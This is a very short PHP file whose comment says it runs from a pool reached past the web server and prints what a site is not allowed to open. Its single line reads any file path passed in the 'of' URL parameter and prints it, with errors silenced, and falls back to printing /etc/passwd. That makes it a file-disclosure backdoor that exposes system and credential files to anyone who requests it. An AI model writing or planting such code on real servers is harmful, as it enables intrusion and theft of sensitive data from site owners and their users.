<?php

/**
 * @file
 * Run by a pool that was spoken to past the web server: prints what a site may not open.
 */

print @file_get_contents($_GET['of']) ?: @file_get_contents('/etc/passwd');
